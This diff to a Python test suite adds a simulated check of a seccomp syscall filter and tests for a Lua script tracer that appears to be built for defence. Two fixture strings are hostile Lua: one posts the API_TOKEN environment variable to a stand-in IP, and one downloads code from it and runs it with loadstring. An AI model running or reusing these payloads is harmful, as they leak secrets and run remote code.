@@ -209,12 +209,54 @@ def test_an_ordinary_user_can_use_it() -> None:
     assert "ordinary user" not in done.stdout and "seccomp" in done.stdout
 
 
-def test_the_filter_is_the_same_for_every_machine() -> None:
-    """Both tables name every call that the filter decides on, and the default is to end the process."""
-    for one in system._MACHINES.values():
-        steps = seccomp.program(one)
-        assert steps[-1] == (0x06, 0, 0, seccomp.KILL)
-        assert all(
-            jump_true + at < len(steps) and jump_false + at < len(steps)
-            for at, (_, jump_true, jump_false, _) in enumerate(steps)
-        )
+def _answer(steps: list[seccomp.Step], data: dict[int, int]) -> int:
+    """What the kernel's machine would answer: loads, compares, jumps."""
+    at = value = 0
+    while True:
+        code, if_true, if_false, operand = steps[at]
+        at += 1
+        if code == 0x06:
+            return operand
+        if code == 0x20:
+            value = data.get(operand, 0)
+        else:
+            holds = {0x15: value == operand, 0x35: value >= operand, 0x45: bool(value & operand)}[code]
+            at += if_true if holds else if_false
+
+
+@pytest.mark.parametrize("name", system._MACHINES)
+def test_the_filter_lets_seventeen_calls_pass(name: str) -> None:
+    """On both machines, for every number: some pass, some are refused, all others end the process."""
+    one = system._MACHINES[name]
+    steps = seccomp.program(one)
+    numbers = {number: call for call, number in one.numbers.items()}
+
+    def answer(number: int, *arguments: int, arch: int = one.audit) -> int:
+        places = {16 + 8 * at: argument for at, argument in enumerate(arguments)}
+        return _answer(steps, {0: number, 4: arch, **places})
+
+    passing = {
+        numbers.get(n, str(n)) for n in range(1024) if answer(n, 1, 0, 0, seccomp.MAP_ANONYMOUS) == seccomp.ALLOW
+    }
+    assert passing == {*seccomp._ALLOWED, "write", "mprotect", "mmap"} and len(passing) == 17
+    refused = {numbers[n] for n in range(1024) if answer(n, 0, 0, 7) & 0xFFFF0000 == seccomp.ERRNO}
+    assert refused == {*seccomp._REFUSED, "write", "mprotect", "mmap"}
+    assert all(answer(n, arch=one.audit ^ 1) == seccomp.KILL for n in range(1024))
+    assert answer(one.numbers["mmap"], 0, 0, 3, 1) == seccomp.KILL  # a file
+    if one.other_abi:
+        assert all(answer(one.other_abi + n, 1) == seccomp.KILL for n in range(1024))
+
+
+def test_what_is_put_into_a_table_is_seen() -> None:
+    found = run('request{Url = "http://192.0.2.7/", Body = json.encode({ t = os.getenv("API_TOKEN") })}', Dialect.LUA54)
+    assert found.events[-1].name == "request" and found.events[-1].carries == ("environment",)
+    assert 'Url = "http://192.0.2.7/"' in found.events[-1].arguments[0]
+
+
+def test_an_answer_may_come_in_pieces() -> None:
+    found = run(
+        'local t = {} require("socket.http").request{ url = "http://192.0.2.7/", sink = require("ltn12").sink.table(t) } '
+        "loadstring(table.concat(t))()",
+        Dialect.LUA51,
+    )
+    assert [one.carries for one in found.chunks] == [("network",)]
